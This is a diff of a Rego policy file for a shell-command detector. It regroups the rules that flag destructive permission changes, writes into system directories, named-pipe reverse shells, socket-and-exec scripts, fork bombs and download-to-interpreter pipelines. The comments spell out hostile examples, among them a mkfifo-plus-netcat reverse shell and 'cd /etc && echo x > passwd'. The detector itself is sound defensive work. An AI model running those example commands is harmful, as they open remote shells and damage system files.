@@ -125,48 +125,6 @@ found_command.find contains v if {
 }
 
 # METADATA
-# title: Dangerous recursive mode or ownership change
-# description: |
-#   chmod -R 777 (0777, a+rwx, o+w ...); chmod, chown or chgrp -R on /, ~, $HOME or
-#   a top-level system directory; --no-preserve-root.
-# custom:
-#   code: destructive_command
-#   severity: critical
-found_command.chmod contains v if {
-	some inv in shell.by_name.chmod
-	message := mode_message("chmod", inv.args)
-	v := {"code": "destructive_command", "severity": "critical", "field": inv.field, "message": message}
-}
-
-# METADATA
-# title: Dangerous recursive mode or ownership change
-# description: |
-#   chmod -R 777 (0777, a+rwx, o+w ...); chmod, chown or chgrp -R on /, ~, $HOME or
-#   a top-level system directory; --no-preserve-root.
-# custom:
-#   code: destructive_command
-#   severity: critical
-found_command.chown contains v if {
-	some inv in shell.by_name.chown
-	message := mode_message("chown", inv.args)
-	v := {"code": "destructive_command", "severity": "critical", "field": inv.field, "message": message}
-}
-
-# METADATA
-# title: Dangerous recursive mode or ownership change
-# description: |
-#   chmod -R 777 (0777, a+rwx, o+w ...); chmod, chown or chgrp -R on /, ~, $HOME or
-#   a top-level system directory; --no-preserve-root.
-# custom:
-#   code: destructive_command
-#   severity: critical
-found_command.chgrp contains v if {
-	some inv in shell.by_name.chgrp
-	message := mode_message("chgrp", inv.args)
-	v := {"code": "destructive_command", "severity": "critical", "field": inv.field, "message": message}
-}
-
-# METADATA
 # title: setuid or setgid chmod
 # description: chmod u+s, g+s, +s, 4755, 2755 ...
 # custom:
@@ -177,38 +135,6 @@ found_command.chmod contains v if {
 	modes := [m | some m in inv.args; setuid_mode(m)]
 	count(modes) > 0
 	v := {"code": "privilege_escalation", "severity": "critical", "field": inv.field, "message": sprintf("chmod %s sets the setuid or setgid bit", [concat(" ", modes)])}
-}
-
-# METADATA
-# title: Write after changing into a system directory
-# description: cd /etc && echo x > passwd
-# custom:
-#   code: system_file_write
-#   severity: critical
-found_command.cd contains v if {
-	some inv in shell.by_name.cd
-	some dir in shell.operands(inv.args)
-	system_target(dir)
-	some wt in shell.write_targets
-	wt.field == inv.field
-	not startswith(wt.target, "/")
-	v := {"code": "system_file_write", "severity": "critical", "field": inv.field, "message": sprintf("writes %s after changing into %s", [wt.target, dir])}
-}
-
-# METADATA
-# title: Write after changing into a system directory
-# description: cd /etc && echo x > passwd
-# custom:
-#   code: system_file_write
-#   severity: critical
-found_command.pushd contains v if {
-	some inv in shell.by_name.pushd
-	some dir in shell.operands(inv.args)
-	system_target(dir)
-	some wt in shell.write_targets
-	wt.field == inv.field
-	not startswith(wt.target, "/")
-	v := {"code": "system_file_write", "severity": "critical", "field": inv.field, "message": sprintf("writes %s after changing into %s", [wt.target, dir])}
 }
 
 # METADATA
@@ -226,34 +152,6 @@ found_command.socat contains v if {
 }
 
 # METADATA
-# title: Named pipe with a network tool
-# description: mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc host port > /tmp/f
-# custom:
-#   code: reverse_shell
-#   severity: critical
-found_command.mkfifo contains v if {
-	some fifo in shell.by_name.mkfifo
-	some net_name in shell.named.relay
-	some net in shell.by_name[net_name]
-	net.field == fifo.field
-	v := {"code": "reverse_shell", "severity": "critical", "field": fifo.field, "message": sprintf("%s with %s relays a shell over the network", ["mkfifo", net_name])}
-}
-
-# METADATA
-# title: Named pipe with a network tool
-# description: mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc host port > /tmp/f
-# custom:
-#   code: reverse_shell
-#   severity: critical
-found_command.mknod contains v if {
-	some fifo in shell.by_name.mknod
-	some net_name in shell.named.relay
-	some net in shell.by_name[net_name]
-	net.field == fifo.field
-	v := {"code": "reverse_shell", "severity": "critical", "field": fifo.field, "message": sprintf("%s with %s relays a shell over the network", ["mknod", net_name])}
-}
-
-# METADATA
 # title: eval behind a wrapper
 # description: command eval ..., builtin eval ..., env eval ...
 # custom:
@@ -262,6 +160,53 @@ found_command.mknod contains v if {
 found_command.eval contains v if {
 	some inv in shell.by_name.eval
 	v := {"code": "obfuscated_command", "severity": "high", "field": inv.field, "message": obfuscation("eval")}
+}
+
+# METADATA
+# title: Dangerous recursive mode or ownership change
+# description: |
+#   chmod -R 777 (0777, a+rwx, o+w ...); chmod, chown or chgrp -R on /, ~, $HOME or
+#   a top-level system directory; --no-preserve-root.
+# custom:
+#   code: destructive_command
+#   severity: critical
+found_tag.mode contains v if {
+	some name in shell.named.mode
+	some inv in shell.by_name[name]
+	message := mode_message(name, inv.args)
+	v := {"code": "destructive_command", "severity": "critical", "field": inv.field, "message": message}
+}
+
+# METADATA
+# title: Write after changing into a system directory
+# description: cd /etc && echo x > passwd (also pushd)
+# custom:
+#   code: system_file_write
+#   severity: critical
+found_tag.chdir contains v if {
+	some name in shell.named.chdir
+	some inv in shell.by_name[name]
+	some dir in shell.operands(inv.args)
+	system_target(dir)
+	some wt in shell.write_targets
+	wt.field == inv.field
+	not startswith(wt.target, "/")
+	v := {"code": "system_file_write", "severity": "critical", "field": inv.field, "message": sprintf("writes %s after changing into %s", [wt.target, dir])}
+}
+
+# METADATA
+# title: Named pipe with a network tool
+# description: mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc host port > /tmp/f (also mknod)
+# custom:
+#   code: reverse_shell
+#   severity: critical
+found_tag.fifo contains v if {
+	some name in shell.named.fifo
+	some fifo in shell.by_name[name]
+	some net_name in shell.named.relay
+	some net in shell.by_name[net_name]
+	net.field == fifo.field
+	v := {"code": "reverse_shell", "severity": "critical", "field": fifo.field, "message": sprintf("%s with %s relays a shell over the network", [name, net_name])}
 }
 
 # METADATA
@@ -349,9 +294,7 @@ found_tag.shell contains v if {
 #   code: reverse_shell
 #   severity: critical
 found_tag.script contains v if {
-	some name in shell.named.script
-	some inv in shell.by_name[name]
-	code := lower(concat(" ", inv.args))
+	some [name, field, code] in scripts
 	some s in ["socket", "fsockopen", "/inet/tcp"]
 	contains(code, s)
 	some e in [
@@ -359,7 +302,7 @@ found_tag.script contains v if {
 		"child_process", "exec(", "system(", "popen", "spawn(", "cmd.exe",
 	]
 	contains(code, e)
-	v := {"code": "reverse_shell", "severity": "critical", "field": inv.field, "message": sprintf("%s script opens a socket and runs a program", [name])}
+	v := {"code": "reverse_shell", "severity": "critical", "field": field, "message": sprintf("%s script opens a socket and runs a program", [name])}
 }
 
 # METADATA
@@ -369,13 +312,11 @@ found_tag.script contains v if {
 #   code: fork_bomb
 #   severity: critical
 found_tag.script contains v if {
-	some name in shell.named.script
-	some inv in shell.by_name[name]
-	code := lower(concat(" ", inv.args))
+	some [name, field, code] in scripts
 	contains(code, "fork")
 	some loop in ["while", "loop", "for(;;)", "for (;;)"]
 	contains(code, loop)
-	v := {"code": "fork_bomb", "severity": "critical", "field": inv.field, "message": sprintf("%s script forks in a loop", [name])}
+	v := {"code": "fork_bomb", "severity": "critical", "field": field, "message": sprintf("%s script forks in a loop", [name])}
 }
 
 # METADATA
@@ -390,7 +331,7 @@ found_in_pipeline contains v if {
 	source(src)
 	some j, sink in p.names
 	j > i
-	runs_code(sink, shell.names)
+	runs_code(sink)
 	v := {"code": "remote_code_execution", "severity": "critical", "field": p.field, "message": sprintf("output of %s is piped into %s", [src, sink])}
 }
 
@@ -547,7 +488,9 @@ mode_message(name, args) := sprintf("%s --no-preserve-root", [name]) if {
 }
 
 # interpreters are the shells and other interpreters that run; sources the
-# downloaders and decoders that run.
+# downloaders and decoders that run (they feed remote or decoded bytes into whatever
+# they are piped to). A pipeline's names are names of commands that run (see the
+# shell fact), so a lookup in these sets also judges a pipeline stage.
 interpreters := object.get(shell.named, "shell", set()) | object.get(shell.named, "script", set())
 
 sources := object.get(shell.named, "downloader", set()) | object.get(shell.named, "decoder", set())
@@ -555,10 +498,11 @@ sources := object.get(shell.named, "downloader", set()) | object.get(shell.named
 # substitution_runners run the output of a substitution as code.
 substitution_runners := interpreters | ({"eval"} & shell.names)
 
-# source: feeds remote or decoded bytes into whatever it is piped to.
-source(name) if {
-	some tag in shell.tags(name)
-	tag in {"downloader", "decoder"}
+# scripts lists [name, field, program text] for each interpreter tagged script that
+# runs: its arguments joined and lower-cased, the text the scripted rules search.
+scripts := {[name, inv.field, lower(concat(" ", inv.args))] |
+	some name in shell.named.script
+	some inv in shell.by_name[name]
 }
 
 recursive(args) if shell.has_short_flag(args, "r")
@@ -710,12 +654,21 @@ setuid_mode(m) if {
 # runs_code is true for a pipeline element that executes what it reads: an
 # interpreter, or a wrapper when an interpreter runs in the command (curl ... | sudo
 # bash, ... | xargs python).
-runs_code(name, _) if shell.interpreter(name)
+# Pipeline elements are judged by their own tags (source, runs_code): a name in a
+# pipeline is not required to be among the commands of the fact.
+source(name) if {
+	some tag in shell.tags(name)
+	tag in {"downloader", "decoder"}
+}
 
-runs_code(name, names) if {
+runs_code(name) if {
+	some tag in shell.tags(name)
+	tag in {"shell", "script"}
+}
+
+runs_code(name) if {
 	"wrapper" in shell.tags(name)
-	some n in names
-	shell.interpreter(n)
+	count(interpreters) > 0
 }
 
 runs_substituted(name, _) if "shell" in shell.tags(name)
@@ -737,7 +690,7 @@ code_arg(a) if startswith(a, "<(")
 # i.sh). One pass over the commands, instead of one per downloaded file.
 executed := {[inv.field, inv.name] | some inv in shell.invocations} | {[inv.field, shell.file_name(ops[0])] |
 	some inv in shell.invocations
-	shell.interpreter(inv.name)
+	inv.name in interpreters
 	ops := shell.operands(inv.args)
 }
 
